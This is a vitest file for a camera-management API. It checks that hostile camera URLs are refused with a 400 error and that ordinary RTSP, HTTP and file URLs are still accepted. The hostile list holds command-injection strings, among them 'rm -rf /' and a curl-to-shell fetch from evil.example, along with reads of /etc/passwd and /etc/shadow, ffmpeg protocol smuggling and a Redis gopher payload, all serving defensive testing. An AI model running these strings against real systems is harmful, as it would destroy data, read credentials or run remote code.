import { backendName } from '@vigil/core/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createTestApp, type TestApp } from '../../services/api/test/test-app.js';

/** Camera URLs that try to reach a shell or smuggle ffmpeg options or protocols: each must be refused. */
const HOSTILE: [why: string, url: string][] = [
  ['shell command separator after a file path', '/var/lib/vigil/cam.mp4; rm -rf /'],
  ['shell command separator in an RTSP path', 'rtsp://10.0.0.5/stream;reboot'],
  ['command substitution in an HTTP path', 'http://cam.local/$(reboot)'],
  ['command substitution as the whole path', '$(curl evil.example | sh)'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal shell expansion is the attack.
  ['variable expansion', '/tmp/${IFS}cat${IFS}/etc/passwd'],
  ['backticks in an RTSP path', 'rtsp://10.0.0.5/`id`'],
  ['backticks as a file path', '`touch /tmp/pwned`'],
  ['leading dash (an ffmpeg option)', '-y'],
  ['-i with another input', '-i /etc/passwd'],
  ['-f lavfi source', '-f lavfi -i testsrc'],
  ['-filter_complex with a movie source', '-filter_complex movie=/etc/passwd'],
  ['newline then an option', 'rtsp://cam/stream\n-y /tmp/out.mp4'],
  ['carriage return then an option', 'rtsp://cam/stream\r-y /tmp/out.mp4'],
  ['NUL byte', 'http://cam/x\u0000.mp4'],
  ['tab', 'rtsp://cam/\tstream'],
  ['concat: protocol', 'concat:/etc/passwd|/etc/shadow'],
  ['concatf: protocol', 'concatf:/tmp/list.txt'],
  ['file: URL', 'file:///etc/shadow'],
  ['file: with a relative path', 'file:../../etc/passwd'],
  ['FILE: in capitals', 'FILE:/etc/passwd'],
  ['subfile protocol', 'subfile,,start,0,end,0,,:/etc/passwd'],
  ['subfile in a path', '/tmp/subfile,,start,0,end,0,,:/etc/passwd'],
  ['cache: wrapper', 'cache:http://cam.local/a.mjpeg'],
  ['crypto: wrapper', 'crypto:/etc/passwd'],
  ['data: URL', 'data:text/plain;base64,aGVsbG8='],
  ['pipe: protocol', 'pipe:0'],
  ['tcp listen', 'tcp://0.0.0.0:9999?listen'],
  ['udp', 'udp://239.0.0.1:1234'],
  ['gopher', 'gopher://127.0.0.1:6379/_FLUSHALL'],
  ['ftp', 'ftp://anonymous@ftp.example/video.mp4'],
  ['javascript', 'javascript:alert(1)'],
  ['hls wrapper', 'hls+http://cam.local/list.m3u8'],
  ['rtmp', 'rtmp://cam.local/live'],
  ['leading space then an option', ' -i /etc/passwd'],
  ['empty', ''],
  ['spaces only', '   '],
  ['too long', `rtsp://cam.local/${'a'.repeat(5000)}`],
];

/** Ordinary camera URLs that must still be accepted. */
const ORDINARY = [
  'rtsp://viewer:s3cret@10.0.0.5:554/stream1',
  'rtsps://cam.example:322/live?channel=1&subtype=0',
  'http://10.0.0.7/mjpg/video.mjpg',
  'https://cam.example/hls/index.m3u8?token=abc-123',
  '/var/lib/vigil/recording.mp4',
  'videos/street corner.mp4',
];

describe(`camera URL injection through POST /deployments/:id/cameras (${backendName})`, () => {
  let t: TestApp;
  let deploymentId: string;

  beforeAll(async () => {
    t = await createTestApp();
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/v1/deployments',
      headers: bearer(t.tokens.admin),
      payload: { name: 'Injection', location: 'Lab', threshold: 0.6, watchlistIds: [] },
    });
    expect(created.statusCode, created.body).toBe(201);
    deploymentId = created.json().id;
  });
  afterAll(async () => t?.close());

  const addCamera = (url: string) =>
    t.app.inject({
      method: 'POST',
      url: `/api/v1/deployments/${deploymentId}/cameras`,
      headers: bearer(t.tokens.admin),
      payload: { name: 'Camera', url },
    });

  it.each(HOSTILE)('refuses %s with 400 invalid_camera_url', async (_why, url) => {
    const response = await addCamera(url);
    expect(response.statusCode, response.body).toBe(400);
    const body = response.json();
    expect(body.error.code).toMatch(/^invalid_camera_url$|^invalid_request$/);
    expect(typeof body.error.message).toBe('string');
  });

  it('stores none of the refused URLs, and accepts ordinary camera URLs', async () => {
    for (const url of ORDINARY) {
      const response = await addCamera(url);
      expect(response.statusCode, `${url}: ${response.body}`).toBe(201);
    }
    const { rows } = await t.deps.db.query<{ url: string }>(
      'SELECT url FROM cameras WHERE deployment_id = $1',
      [deploymentId],
    );
    expect(rows).toHaveLength(ORDINARY.length);
    for (const [, url] of HOSTILE) expect(rows.map((r) => r.url)).not.toContain(url);
  });
});
